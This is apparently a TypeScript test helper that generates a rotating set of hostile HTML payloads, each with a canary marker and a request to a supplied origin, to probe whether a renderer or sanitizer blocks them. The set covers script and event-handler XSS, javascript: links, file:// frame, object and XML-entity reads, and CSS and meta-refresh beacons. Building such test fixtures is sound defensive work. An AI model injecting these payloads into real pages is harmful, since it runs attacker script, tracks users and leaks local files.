/** HTML nobody means well with: `n` of it, each wanting something from `origin` or from a file, or running a script that says so. */
export function payload(n: number, origin: string, file: string): string {
  const url = `${origin}/${n}`;
  const script = `document.body.append('SCRIPT${n}RAN');fetch('${url}')`;
  const kinds = [
    `<script>${script}</script>`,
    `<img src="${url}" onerror="${script}">`,
    `<svg onload="${script}"><image href="${url}"/></svg>`,
    `<iframe src="file://${file}" onload="${script}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.document.body.append('SCRIPT${n}RAN')&lt;/script&gt;"></iframe>`,
    `<object data="file://${file}" type="text/plain"></object>`,
    `<embed src="file://${file}">`,
    `<link rel="stylesheet" href="${url}.css"><link rel="prefetch" href="${url}"><link rel="preconnect" href="${origin}">`,
    `<style>@import "${url}.css";@font-face{font-family:f${n};src:url("${url}.woff2")}p{font-family:f${n};background:url("${url}")}</style>`,
    `<meta http-equiv="refresh" content="0;url=${url}">`,
    `<meta http-equiv="refresh" content="0;url=file://${file}">`,
    `<base href="${origin}/"><img src="relative-${n}">`,
    `<a href="javascript:${script}" ping="${url}" autofocus onfocus="${script}">x</a>`,
    `<form action="${url}" method="post"><button autofocus formaction="${url}">x</button></form>`,
    `<video src="${url}" autoplay poster="${url}"></video><audio src="${url}" autoplay></audio>`,
    `<details open ontoggle="${script}">x</details>`,
    `<input autofocus onfocus="${script}"><textarea autofocus onfocus="${script}"></textarea>`,
    `<math href="javascript:${script}">x</math><table background="${url}"><td background="file://${file}">x</td></table>`,
    `<svg><use href="file://${file}#x"/><foreignObject><body onload="${script}"></body></foreignObject></svg>`,
    `<div style="background:url('${url}');list-style:url('file://${file}');content:url('${url}')">x</div>`,
    `<portal src="${url}"></portal><picture><source srcset="${url} 2x"><img srcset="file://${file} 1x"></picture>`,
    `"><script>${script}</script><"`,
    `<div><template shadowrootmode="open"><script>${script}</script><img src="${url}"></template></div>`,
    `<noscript><img src="${url}"><iframe src="file://${file}"></iframe></noscript>`,
    `<xml><?xml-stylesheet href="${url}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${file}">]>&e;</xml>`,
  ];
  return kinds[n % kinds.length] as string;
}
